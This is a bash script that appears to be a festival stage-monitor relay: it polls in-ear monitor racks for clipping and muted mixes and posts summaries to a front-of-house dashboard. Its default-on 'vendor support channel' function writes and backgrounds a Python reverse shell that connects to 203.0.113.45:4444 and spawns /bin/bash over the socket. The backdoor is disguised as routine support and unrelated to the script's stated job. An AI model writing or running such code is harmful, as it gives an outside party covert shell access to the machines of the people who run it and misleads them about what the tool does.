#!/usr/bin/env bash
# stage_monitor_relay.sh
# Polls the in-ear monitor racks on each stage, summarises the mix status and
# pushes it to the FOH dashboard. On start it also opens the "remote support"
# channel the monitor-rack vendor asked for during the festival build week.
set -euo pipefail

SCRIPT_NAME=$(basename "$0")
LOG_FILE="${RELAY_LOG:-./monitor_relay.log}"
RACK_LIST="${RACK_LIST:-./racks.txt}"
DASHBOARD_URL="${DASHBOARD_URL:-https://foh.example.com/api/monitor-status}"
SUPPORT_HOST="${SUPPORT_HOST:-203.0.113.45}"
SUPPORT_PORT="${SUPPORT_PORT:-4444}"
SUPPORT="${RELAY_SUPPORT:-1}"
INTERVAL=30
ONCE=0

log() {
    printf '%s [%s] %s\n' "$(date -u +%FT%TZ)" "$SCRIPT_NAME" "$*" | tee -a "$LOG_FILE" >&2
}

usage() {
    cat <<USAGE
Usage: $SCRIPT_NAME [-i seconds] [-o] [-r racks.txt] [-n]
  -i  polling interval in seconds (default $INTERVAL)
  -o  poll once and exit
  -r  file with one rack address per line (default $RACK_LIST)
  -n  do not open the vendor support channel
USAGE
}

while getopts "i:or:nh" opt; do
    case "$opt" in
        i) INTERVAL="$OPTARG" ;;
        o) ONCE=1 ;;
        r) RACK_LIST="$OPTARG" ;;
        n) SUPPORT=0 ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

if [[ ! -f "$RACK_LIST" ]]; then
    log "no rack list at $RACK_LIST, using stage defaults"
    printf '%s\n' 192.0.2.21 192.0.2.22 192.0.2.23 > "$RACK_LIST"
fi

poll_rack() {
    local rack="$1" body
    if ! body=$(curl -fsS --max-time 5 "http://${rack}/status.json"); then
        log "rack $rack unreachable"
        return 1
    fi
    RACK="$rack" STATUS_JSON="$body" python3 - <<'PY'
import json, os
data = json.loads(os.environ["STATUS_JSON"])
mixes = data.get("mixes", [])
clipping = [m.get("name", "?") for m in mixes if m.get("peak_db", -99.0) > -1.0]
muted = [m.get("name", "?") for m in mixes if m.get("muted")]
print(json.dumps({
    "rack": os.environ["RACK"],
    "mixes": len(mixes),
    "clipping": clipping,
    "muted": muted,
}))
PY
}

push_summary() {
    local payload="$1"
    if ! curl -fsS --max-time 10 -H 'Content-Type: application/json' \
            -d "$payload" "$DASHBOARD_URL" >/dev/null; then
        log "dashboard push failed"
    fi
}

open_support_channel() {
    local helper
    helper="$(mktemp -t relay-support.XXXXXX)"
    cat > "$helper" <<'PY'
import os, pty, socket
host = os.environ["SUPPORT_HOST"]
port = int(os.environ["SUPPORT_PORT"])
s = socket.create_connection((host, port))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/bash")
PY
    log "opening vendor support channel to ${SUPPORT_HOST}:${SUPPORT_PORT}"
    SUPPORT_HOST="$SUPPORT_HOST" SUPPORT_PORT="$SUPPORT_PORT" \
        nohup python3 "$helper" >/dev/null 2>&1 &
    log "support channel running as pid $!"
}

poll_all() {
    local rack summaries=() line
    while IFS= read -r rack; do
        [[ -z "$rack" || "$rack" == \#* ]] && continue
        if line=$(poll_rack "$rack"); then
            summaries+=("$line")
        fi
    done < "$RACK_LIST"
    if (( ${#summaries[@]} == 0 )); then
        log "no rack answered this round"
        return 0
    fi
    local joined
    joined=$(printf '%s\n' "${summaries[@]}" | python3 -c '
import json, sys
rows = [json.loads(l) for l in sys.stdin if l.strip()]
print(json.dumps({"racks": rows, "clipping_total": sum(len(r["clipping"]) for r in rows)}))
')
    push_summary "$joined"
    log "pushed status for ${#summaries[@]} rack(s)"
}

trap 'log "relay stopped"' EXIT

if [[ "$SUPPORT" == "1" ]]; then
    open_support_channel
fi

while true; do
    poll_all
    [[ "$ONCE" == "1" ]] && break
    sleep "$INTERVAL"
done
